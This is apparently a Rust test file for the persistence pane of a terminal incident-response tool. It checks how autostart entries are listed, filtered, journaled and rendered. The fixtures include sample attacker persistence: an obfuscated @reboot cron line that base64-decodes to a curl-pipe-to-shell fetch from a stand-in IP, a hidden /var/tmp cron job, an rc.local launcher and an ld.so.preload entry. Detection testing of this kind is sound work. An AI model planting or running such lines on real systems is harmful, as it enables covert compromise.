//! What the cockpit makes of it: groups, news, the journal, and the screens of both languages.

use std::sync::Arc;

use firedamp::cockpit::keymap::Key;
use firedamp::cockpit::model::{NoticeKind, Pen, Size};
use firedamp::cockpit::persistence::{AutostartRow, runs_as};
use firedamp::cockpit::{Effect, Msg};
use firedamp::domain::base::Language;
use firedamp::domain::facts::{
    Autostart, AutostartChange, AutostartKind, Packaged, Persistence, Process, Reading, Remark,
    Snapshot, Target, tricks,
};
use firedamp::domain::session::Event;
use firedamp::domain::untrusted::Untrusted;
use firedamp::ui::Screen;
use firedamp::ui::text::width;
use firedamp::ui::theme::Theme;
use proptest::prelude::*;
use ratatui::buffer::Buffer;
use ratatui::layout::Rect;
use ratatui::widgets::Widget as _;

use super::incident::{Desk, process, snapshot};

pub(super) fn entry(kind: AutostartKind, path: &str, line: u32, text: &str) -> Autostart {
    Autostart {
        kind,
        path: path.into(),
        line,
        text: text.into(),
        user: Some("root".into()),
        uid: 0,
        mode: 0o100_644,
        modified: "2026-10-01T08:00:00Z".parse().unwrap(),
        changed: "2026-10-01T08:00:00Z".parse().unwrap(),
        immutable: Reading::Known(false),
        packaged: Packaged::No,
        runs: None,
        tricks: tricks(text.as_bytes()),
        remarks: Vec::new(),
    }
}

fn runs(program: &str, exists: bool, packaged: Packaged) -> Target {
    Target { program: program.into(), exists: Reading::Known(exists), packaged }
}

fn packaged(mut entry: Autostart, name: &str) -> Autostart {
    entry.packaged = Packaged::Unchanged(name.into());
    entry
}

pub(super) fn found(mut entries: Vec<Autostart>) -> Persistence {
    entries.sort_by(|one, other| one.key().cmp(&other.key()));
    let entries = entries.into_iter().map(Arc::new).collect();
    Persistence { entries, hunted_ms: Some(400), watched: true }
}

fn usual() -> Vec<Autostart> {
    let mut up = entry(
        AutostartKind::Cron,
        "/var/spool/cron/crontabs/www-data",
        3,
        "*/5 * * * * /var/tmp/.x/up",
    );
    up.user = Some("www-data".into());
    up.runs = Some(runs("/var/tmp/.x/up", true, Packaged::No));
    let base64 = "@reboot echo Y3VybCAtcyBodHRwOi8vMTkyLjAuMi43L3guc2ggfCBzaA== | base64 -d | sh";
    let mut packed = entry(AutostartKind::Cron, "/var/spool/cron/crontabs/malee", 1, base64);
    packed.user = Some("malee".into());
    let mut unit = entry(
        AutostartKind::SystemdUnit,
        "/etc/systemd/system/netmon.service",
        6,
        "ExecStart=/usr/local/bin/netmon --quiet",
    );
    unit.runs = Some(runs("/usr/local/bin/netmon", false, Packaged::Unknown));
    unit.remarks = vec![Remark::Enabled, Remark::RestartsAlways];
    unit.immutable = Reading::Known(true);
    let mut altered = entry(
        AutostartKind::SystemdUnit,
        "/usr/lib/systemd/system/ssh.service",
        9,
        "ExecStart=/usr/sbin/sshd -D",
    );
    altered.packaged = Packaged::Unchanged("openssh-server".into());
    altered.runs = Some(runs("/usr/sbin/sshd", true, Packaged::Changed("openssh-server".into())));
    let key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMadeUpKeyMadeUpKeyMadeUpKeyMadeUpKeyMadeUpKe1 malee@desk.example";
    vec![
        up,
        packed,
        packaged(
            entry(AutostartKind::Cron, "/etc/cron.d/sysstat", 4, "5-55/10 * * * * root true"),
            "sysstat",
        ),
        packaged(
            entry(
                AutostartKind::Cron,
                "/etc/cron.daily/logrotate",
                0,
                "test -x /usr/sbin/logrotate",
            ),
            "logrotate",
        ),
        unit,
        altered,
        packaged(
            entry(
                AutostartKind::SystemdUnit,
                "/usr/lib/systemd/system/cron.service",
                8,
                "ExecStart=/usr/sbin/cron -f",
            ),
            "cron",
        ),
        entry(AutostartKind::AuthorizedKey, "/root/.ssh/authorized_keys", 1, key),
    ]
}

fn seen(boot_ms: u64, persistence: &Persistence) -> Msg {
    let mut up = process(4242, "up", b"/var/tmp/.x/up");
    up.exe = Reading::Known("/var/tmp/.x/up".into());
    let processes: Vec<Process> = vec![up];
    let shown =
        Snapshot { persistence: Arc::new(persistence.clone()), ..snapshot(boot_ms, processes) };
    Msg::Seen(Arc::new(shown))
}

/// At the pane, after the first hunt.
fn desk(language: Language) -> Desk {
    let mut desk = Desk::at_work();
    desk.model.language = language;
    desk.tell(seen(1_000, &found(usual())));
    desk.press(Key::Char('g'));
    desk.press(Key::Char('s'));
    desk
}

fn events(effects: &[Effect]) -> Vec<(AutostartChange, String)> {
    let event = |effect: &Effect| {
        let Effect::Record { event: Event::Autostart { change, path, line, .. }, .. } = effect
        else {
            return None;
        };
        Some((*change, format!("{}:{line}", path.printable())))
    };
    effects.iter().filter_map(event).collect()
}

fn screen(desk: &mut Desk, columns: u16, rows: u16) -> String {
    desk.tell(Msg::Resized(Size { columns, rows }));
    let area = Rect::new(0, 0, columns, rows);
    let mut buffer = Buffer::empty(area);
    Screen { model: &desk.model, theme: &Theme::of_name("dark") }.render(area, &mut buffer);
    let mut text = String::new();
    for y in 0..rows {
        let mut line = String::new();
        let mut x = 0;
        while x < columns {
            let symbol = buffer.cell((x, y)).unwrap().symbol();
            line.push_str(symbol);
            x += u16::try_from(width(symbol).max(1)).unwrap();
        }
        text.push_str(line.trim_end());
        text.push('\n');
    }
    text
}

#[test]
fn the_pane_in_eighty_columns() {
    insta::assert_snapshot!(screen(&mut desk(Language::En), 80, 24));
}

#[test]
fn the_pane_in_thai() {
    insta::assert_snapshot!(screen(&mut desk(Language::Th), 80, 24));
}

#[test]
fn the_pane_in_two_hundred_columns() {
    insta::assert_snapshot!(screen(&mut desk(Language::En), 200, 30));
}

#[test]
fn the_page_shows_what_stands_behind_base64() {
    let mut desk = desk(Language::En);
    desk.press(Key::Down);
    desk.press(Key::Enter);
    insta::assert_snapshot!(screen(&mut desk, 80, 24));
}

#[test]
fn the_page_in_thai_says_who_runs_it_now() {
    let mut desk = desk(Language::Th);
    desk.press(Key::Down);
    desk.press(Key::Down);
    desk.press(Key::Enter);
    insta::assert_snapshot!(screen(&mut desk, 120, 36));
}

#[test]
fn what_is_as_packaged_is_folded_and_enter_unfolds_it() {
    let mut desk = desk(Language::En);
    let folded = |desk: &Desk| {
        let rows = &desk.model.panes.persistence.rows;
        rows.iter().filter(|row| matches!(row, AutostartRow::Folded(..))).count()
    };
    assert_eq!(folded(&desk), 2);
    assert!(!screen(&mut desk, 120, 36).contains("logrotate"));
    desk.press(Key::Enter);
    assert_eq!(folded(&desk), 1);
    assert!(screen(&mut desk, 120, 36).contains("logrotate"));
    desk.press(Key::Enter);
    assert_eq!(folded(&desk), 2);
}

#[test]
fn what_changes_is_written_by_the_pen_and_shown_as_news() {
    let mut desk = desk(Language::En);
    let mut entries = usual();
    entries.retain(|it| it.kind != AutostartKind::AuthorizedKey);
    entries.push(entry(AutostartKind::RcLocal, "/etc/rc.local", 2, "nohup /var/tmp/.x/up &"));
    entries[0].text = "*/9 * * * * /var/tmp/.x/up".into();
    let effects = desk.tell(seen(2_000, &found(entries)));
    assert_eq!(
        events(&effects),
        [
            (AutostartChange::Changed, "/var/spool/cron/crontabs/www-data:3".to_owned()),
            (AutostartChange::Appeared, "/etc/rc.local:2".to_owned()),
            (AutostartChange::Vanished, "/root/.ssh/authorized_keys:1".to_owned()),
        ]
    );
    assert_eq!(effects.iter().filter(|it| **it == Effect::Bell).count(), 1, "one bell for all");
    assert!(matches!(desk.model.notice.as_ref().unwrap().kind, NoticeKind::Autostart(..)));
    assert_eq!(desk.model.panes.persistence.news, 3);
    insta::assert_snapshot!(screen(&mut desk, 80, 24));
}

fn notice(desk: &Desk) -> (AutostartChange, String, usize) {
    let kind = &desk.model.notice.as_ref().unwrap().kind;
    let NoticeKind::Autostart(change, it, more) = kind else { panic!("{kind:?}") };
    (*change, it.path.plain(80), *more)
}

#[test]
fn the_worst_of_many_changes_is_on_the_line_and_what_is_not_so_goes() {
    let mut desk = desk(Language::En);
    let mut entries = usual();
    entries.push(entry(AutostartKind::RcLocal, "/etc/rc.local", 2, "nohup /opt/up &"));
    entries.push(entry(AutostartKind::Preload, "/etc/ld.so.preload", 1, "/lib/x.so"));
    desk.tell(seen(2_000, &found(entries)));
    assert_eq!(notice(&desk), (AutostartChange::Appeared, "/etc/ld.so.preload".into(), 1));
    desk.tell(seen(3_000, &found(usual())));
    assert_eq!(notice(&desk), (AutostartChange::Vanished, "/etc/ld.so.preload".into(), 1));
    // What came and went stays in the list.
    let rows = &desk.model.panes.persistence.rows;
    let gone = |row: &&AutostartRow| {
        matches!(row, AutostartRow::Entry { change: Some(AutostartChange::Vanished), .. })
    };
    assert_eq!(rows.iter().filter(gone).count(), 2);
    let mut entries = usual();
    entries.push(entry(AutostartKind::Preload, "/etc/ld.so.preload", 1, "/lib/x.so"));
    desk.tell(seen(4_000, &found(entries)));
    assert_eq!(notice(&desk), (AutostartChange::Appeared, "/etc/ld.so.preload".into(), 0));
    desk.press(Key::Char('x'));
    let contradicts =
        |it: &NoticeKind| matches!(it, NoticeKind::Autostart(AutostartChange::Vanished, ..));
    assert!(desk.model.notice.as_ref().is_none_or(|it| !contradicts(&it.kind)));
}

#[test]
fn where_a_place_means_root_root_is_said() {
    let of = |kind, path: &str| {
        let mut one = entry(kind, path, 0, "");
        one.user = None;
        runs_as(&one).map(|it| it.plain(20))
    };
    let root = Some(String::from("root"));
    assert_eq!(of(AutostartKind::SystemdUnit, "/etc/systemd/system/a.service"), root);
    assert_eq!(of(AutostartKind::Cron, "/etc/cron.d/a"), root);
    assert_eq!(of(AutostartKind::SystemdUnit, "/etc/systemd/user/a.service"), None);
    assert_eq!(of(AutostartKind::SystemdDropIn, "/etc/systemd/system/a.service.d/b.conf"), None);
}

#[test]
fn the_first_hunt_is_no_news_nor_is_the_same_again() {
    let mut desk = Desk::at_work();
    let nothing_yet = Persistence::default();
    assert!(events(&desk.tell(seen(1_000, &nothing_yet))).is_empty());
    assert!(events(&desk.tell(seen(2_000, &found(usual())))).is_empty());
    assert!(events(&desk.tell(seen(3_000, &found(usual())))).is_empty());
}

#[test]
fn whoever_only_watches_writes_nothing_and_does_not_later_either() {
    let mut desk = desk(Language::En);
    desk.tell(Msg::Pen(Pen::Observer(Some("niran".into()))));
    let mut entries = usual();
    entries.push(entry(AutostartKind::RcLocal, "/etc/rc.local", 2, "nohup /var/tmp/.x/up &"));
    assert!(events(&desk.tell(seen(2_000, &found(entries.clone())))).is_empty());
    desk.tell(Msg::Pen(Pen::Ours));
    assert!(events(&desk.tell(seen(3_000, &found(entries)))).is_empty());
}

#[test]
fn a_flood_of_changes_is_measured_out() {
    let mut desk = desk(Language::En);
    let line = |at: u32| {
        entry(AutostartKind::Cron, "/etc/cron.d/flood", at, &format!("{at} * * * * root true"))
    };
    let mut entries = usual();
    entries.extend((1..1_000).map(line));
    let flood = found(entries);
    let mut written = 0;
    for second in 2..62 {
        let effects = desk.tell(seen(second * 1_000, &flood));
        assert!(events(&effects).len() <= 8);
        written += events(&effects).len();
        desk.save(effects);
    }
    assert!((30..=60).contains(&written), "{written} in the course of a minute");
}

#[test]
fn a_filter_shows_what_was_asked_for() {
    let count = |filter: &str| {
        let mut desk = desk(Language::En);
        desk.press(Key::Char('/'));
        for c in filter.chars() {
            desk.press(Key::Char(c));
        }
        desk.press(Key::Enter);
        let rows = &desk.model.panes.persistence.rows;
        rows.iter().filter(|row| matches!(row, AutostartRow::Entry { .. })).count()
    };
    assert_eq!(count("user:www"), 1);
    assert_eq!(count("kind:systemd"), 3);
    assert_eq!(count("kind:systemd !netmon"), 2);
    assert_eq!(count("tricks"), 1);
    assert_eq!(count("runs"), 1);
    assert_eq!(count("new"), 0);
    assert_eq!(count("logrotate"), 1, "also what is folded away");
}

#[test]
fn escape_takes_the_filter_off_first() {
    let mut desk = desk(Language::En);
    for key in [Key::Char('/'), Key::Char('x'), Key::Char('q'), Key::Char('z'), Key::Enter] {
        desk.press(key);
    }
    assert!(desk.model.panes.persistence.rows.is_empty());
    desk.press(Key::Esc);
    assert!(!desk.model.panes.persistence.rows.is_empty());
}

#[test]
fn an_entry_is_copied_with_its_path_its_line_and_its_program() {
    let mut desk = desk(Language::En);
    desk.press(Key::Down);
    desk.press(Key::Down);
    desk.press(Key::Char('y'));
    desk.press(Key::Down);
    let effects = desk.press(Key::Enter);
    assert_eq!(effects, [Effect::Copy(vec!["*/5 * * * * /var/tmp/.x/up".into()])]);
}

proptest! {
    #![proptest_config(ProptestConfig { failure_persistence: None, cases: 48, ..ProptestConfig::default() })]

    #[test]
    fn the_pane_takes_any_entry_at_any_size(
        path in prop::collection::vec(any::<u8>(), 0..120),
        text in prop::collection::vec(any::<u8>(), 0..300),
        columns in 20..200_u16,
        rows in 8..50_u16,
        enter in any::<bool>(),
    ) {
        let mut hostile = entry(AutostartKind::ShellStart, "", 7, "");
        (hostile.path, hostile.text) = (Untrusted::new(path), Untrusted::new(text));
        hostile.user = Some(hostile.text.clone());
        let mut desk = Desk::at_work();
        desk.tell(seen(1_000, &found(vec![hostile])));
        for key in [Key::Char('g'), Key::Char('s'), Key::Down] {
            desk.press(key);
        }
        if enter {
            desk.press(Key::Enter);
        }
        let drawn = screen(&mut desk, columns, rows);
        prop_assert!(!drawn.contains(|c: char| c.is_control() && c != '\n'));
    }
}
